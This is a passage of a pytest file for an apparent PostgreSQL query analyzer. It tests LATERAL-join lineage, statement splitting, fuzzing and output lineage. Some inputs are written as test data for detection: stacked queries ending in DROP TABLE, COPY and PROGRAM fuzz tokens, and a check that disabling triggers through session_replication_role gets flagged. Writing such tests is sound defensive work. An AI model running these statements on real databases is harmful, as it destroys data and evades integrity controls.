    f = one("SELECT 1 FROM customers NATURAL LEFT JOIN orders")
    assert cols(f, "join") == {("", "customers", "*"), ("", "orders", "*")}


def test_correlated_sub_select_sees_outer_alias() -> None:
    f = one("SELECT 1 FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.cid = c.id)")
    assert ("", "customers", "id") in cols(f, "predicate")
    assert ("", "orders", "cid") in cols(f, "predicate")


# ---------------------------------------------------------------- LATERAL, whatever the syntax

EMAIL = ("", "customers", "email")

# Each item reads c.email from the item on its left; written with JOIN syntax, nested in
# joins, as ROWS FROM, XMLTABLE, under TABLESAMPLE: the reference is seen as in the comma form.
LATERAL_SHAPES = [
    "customers c, LATERAL (SELECT c.email AS v) l",
    "customers c CROSS JOIN LATERAL (SELECT c.email AS v) l",
    "customers c JOIN LATERAL (SELECT c.email AS v) l ON true",
    "customers c INNER JOIN LATERAL (SELECT c.email AS v) l ON true",
    "customers c LEFT JOIN LATERAL (SELECT c.email AS v) l ON true",
    "customers c TABLESAMPLE bernoulli (100) CROSS JOIN LATERAL (SELECT c.email AS v) l",
    "orders o JOIN customers c ON o.customer_id = c.id CROSS JOIN LATERAL (SELECT c.email AS v) l",
    "customers c JOIN (orders o CROSS JOIN LATERAL (SELECT c.email AS v) l) ON true",
    "orders o, customers c JOIN LATERAL (SELECT c.email AS v) l ON true",
    "customers c CROSS JOIN LATERAL unnest(ARRAY[c.email]) l(v)",
    "customers c LEFT JOIN LATERAL unnest(ARRAY[c.email]) l(v) ON true",
    "customers c CROSS JOIN LATERAL ROWS FROM (unnest(ARRAY[c.email])) l(v)",
    "customers c CROSS JOIN LATERAL XMLTABLE('/x' PASSING xmlelement(name x, c.email)"
    " COLUMNS v text PATH '.') l",
]


@pytest.mark.parametrize("shape", LATERAL_SHAPES)
def test_a_lateral_item_sees_the_items_on_its_left(shape: str) -> None:
    f = one(f"SELECT l.v FROM {shape}")  # noqa: S608
    assert EMAIL in cols(f, "output") | cols(f, "expression"), f.columns
    assert f.reads[0] in (TableRef("", "customers"), TableRef("", "orders"))


@pytest.mark.parametrize("shape", LATERAL_SHAPES)
@pytest.mark.parametrize(
    ("clause", "usage"),
    [
        ("WHERE l.v LIKE 'a%'", "predicate"),
        ("ORDER BY l.v", "order"),
        ("GROUP BY l.v", "group"),
        ("GROUP BY 1 HAVING max(l.v) > 'a'", "predicate"),
    ],
)
def test_the_lateral_alias_carries_its_lineage_to_every_clause(
    shape: str, clause: str, usage: str
) -> None:
    f = one(f"SELECT 1 FROM {shape} {clause}")  # noqa: S608
    assert EMAIL in cols(f, usage), f.columns


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1 FROM customers c JOIN LATERAL (SELECT c.email AS v) l ON l.v LIKE 'a%'",
        "SELECT 1 FROM customers c LEFT JOIN LATERAL unnest(ARRAY[c.email]) l(v) ON l.v > 'a'",
    ],
)
def test_a_join_condition_on_the_lateral_alias_is_a_join_use(sql: str) -> None:
    assert EMAIL in cols(one(sql), "join")


def test_a_limit_inside_a_lateral_join_computes_on_the_left_side() -> None:
    f = one(
        "SELECT 1 FROM customers c CROSS JOIN LATERAL"
        " (SELECT 1 FROM generate_series(1, 9) LIMIT ascii(c.email)) l"
    )
    assert EMAIL in cols(f) - cols(f, "output")


# ---------------------------------------------------------------- several statements, text


def test_multi_statement_split_with_comments_and_dollar_quotes() -> None:
    sql = (
        "/* lead; comment */ SELECT 'a;b' FROM t; -- line; comment\n"
        "DO $body$ BEGIN RAISE NOTICE 'x;y'; END $body$;\n"
        "SELECT $$;$$, $tag$ ; $tag$; DELETE /* ; */ FROM u"
    )
    facts = analyze(sql)
    assert [f.command for f in facts] == ["SELECT", "DO", "SELECT", "DELETE"]
    assert all("multi_statement" in f.flags for f in facts)
    assert facts[0].text == "SELECT 'a;b' FROM t"
    assert facts[1].text.startswith("DO $body$") and facts[1].text.endswith("END $body$")
    assert facts[3].text == "DELETE /* ; */ FROM u"
    assert facts[3].writes == (TableRef("", "u"),)


def test_read_then_write_in_one_message() -> None:
    facts = analyze("SELECT 1; DROP TABLE t")
    assert [f.category for f in facts] == ["read", "ddl"]


def test_single_statement_has_no_multi_flag_and_own_fingerprint() -> None:
    f = one("  SELECT 1  ;  ")
    assert "multi_statement" not in f.flags
    assert f.text == "SELECT 1"
    assert f.fingerprint == one("select 2").fingerprint  # constants do not change it


def test_non_ascii_text_is_sliced_by_character() -> None:
    facts = analyze("SELECT 'héllo wörld'; SELECT 'ß'")
    assert [f.text for f in facts] == ["SELECT 'héllo wörld'", "SELECT 'ß'"]


def test_only_comments_has_no_statement() -> None:
    assert analyze("-- nothing here\n/* nor here */") == ()


@pytest.mark.parametrize(
    "sql", ["SELEC 1", "DELETE FROM", "SELECT 'unterminated", "SELECT 1; DROP TABLE", "\x00"]
)
def test_unparseable_text_is_unknown(sql: str) -> None:
    f = one(sql)
    assert (f.command, f.category) == ("UNKNOWN", "unknown")
    assert f.text == sql


def test_deep_nesting_fails_closed() -> None:
    # Parentheses vanish in the parser; nested arrays exceed what the walk accepts.
    assert one("SELECT " + "(" * 3000 + "1" + ")" * 3000).category == "read"
    assert one("SELECT " + "ARRAY[" * 1000 + "1" + "]" * 1000).category == "unknown"


def test_policy_input_shape() -> None:
    f = one("DELETE FROM orders WHERE id = $1")
    data = f.to_input(protocol="extended", index=0, count=1, params=["42"])
    assert data["command"] == "DELETE" and data["category"] == "write"
    assert data["writes"] == [{"schema": "", "table": "orders"}]
    assert data["columns"] == [
        {"schema": "", "table": "orders", "column": "id", "usage": "predicate"}
    ]
    assert data["params"] == ["42"] and data["has_where"] is True


SQLISH = st.lists(
    st.sampled_from(
        [
            "SELECT",
            "DELETE",
            "FROM",
            "WITH",
            "AS",
            "(",
            ")",
            ";",
            "'",
            '"',
            "$$",
            "$a$",
            "--",
            "/*",
            "*/",
            "t",
            "x.y",
            "*",
            ",",
            "=",
            "1",
            "WHERE",
            "INSERT",
            "INTO",
            "VALUES",
            "EXPLAIN",
            "ANALYZE",
            "COPY",
            "PROGRAM",
            'U&"a"',
            "E'\\''",
            "RETURNING",
            "SET",
            "ROLE",
            "PREPARE",
            "EXECUTE",
            "TABLE",
            "JOIN",
            "ON",
            "USING",
            "MERGE",
            "\n",
            " ",
        ]
    ),
    max_size=30,
).map(" ".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(SQLISH, st.text(max_size=200)))
def test_analyze_never_raises(sql: str) -> None:
    for f in analyze(sql):
        assert f.category in ("read", "write", "ddl", "dcl", "tcl", "session", "utility", "unknown")
        assert f.command == f.command.upper()


@pytest.mark.parametrize(
    "sql",
    [
        "SET session_replication_role = replica",
        "SET LOCAL session_replication_role TO 'replica'",
        "SELECT set_config('session_replication_role', 'replica', false)",
    ],
)
def test_switching_off_triggers_and_foreign_keys_is_flagged(sql: str) -> None:
    (facts,) = analyze(sql)
    assert "set_replication_role" in facts.flags


# ---------------------------------------------------------------- output lineage


def lineage(sql: str) -> list[tuple[set[tuple[str, str, str]], bool]]:
    outputs = one(sql).outputs
    assert outputs is not None
    return [(set(o.sources), o.spread) for o in outputs]


E = ("", "customers", "email")
N = ("", "customers", "name")


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        # Only filtered or counted: no value flows out.
        ("SELECT count(*) FROM customers WHERE email LIKE 'a%'", [(set(), False)]),
        (
            "SELECT count(email), count(*) FILTER (WHERE email > 'a') FROM customers",
            [(set(), False), (set(), False)],
        ),
        (
            "SELECT 'x', email, upper(email) FROM customers",
            [(set(), False), ({E}, False), ({E}, False)],
        ),
        (
            "SELECT max(email), string_agg(email, ','), array_agg(email) FROM customers",
            [({E}, False)] * 3,
        ),
        # Derived tables: a literal output draws on nothing, a named one on its sources.
        (
            "SELECT lit, e FROM (SELECT 'x' AS lit, email AS e FROM customers) s",
            [(set(), False), ({E}, False)],
        ),
        ("SELECT * FROM (SELECT name, 1 AS one FROM customers) s", [({N}, False), (set(), False)]),
        # A function's rows carry what its arguments read.
        (
            "SELECT v FROM customers c, unnest(ARRAY[c.email]) v",
            [({E, ("", "customers", "v")}, False)],
        ),
        (
            "SELECT * FROM customers c, unnest(ARRAY[c.email]) v",
            [({("", "customers", "*")}, False), ({E}, True)],
        ),
        # UNION: each column draws on both arms.
        ("SELECT name FROM customers UNION SELECT email FROM customers", [({N, E}, False)]),
        # `*` shown once per shared USING column: widths unknown to the parser.
        (
            "SELECT * FROM customers JOIN orders USING (id)",
            [({("", "customers", "*")}, True), ({("", "orders", "*")}, True)],
        ),
        (
            "SELECT (c).*, 1 FROM customers c",
            [({("", "customers", "*"), ("", "customers", "c")}, True), (set(), False)],
        ),
        (
            "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING 1, email",
            [(set(), False), ({E}, False)],
        ),
    ],
)
def test_output_lineage(sql: str, expected: list[tuple[set[tuple[str, str, str]], bool]]) -> None:
    assert lineage(sql) == expected


def test_no_output_lineage_where_no_rows_or_other_rows() -> None:
    assert one("EXPLAIN SELECT email FROM customers").outputs is None
    assert one("COPY (SELECT email FROM customers) TO STDOUT").outputs is None
    assert one("SET work_mem = '1MB'").outputs is None
    assert one("INSERT INTO orders VALUES (1)").outputs == ()


def test_cursor_statements_name_their_cursor() -> None:
    assert one("DECLARE c CURSOR FOR SELECT 1").portal == "c"
    assert one('FETCH 2 FROM "C x"').portal == "C x"
    assert one("MOVE NEXT IN c").portal == "c"
    assert one("CLOSE c").portal == "c"
    assert one("CLOSE ALL").portal is None
    assert one("SELECT 1").portal is None
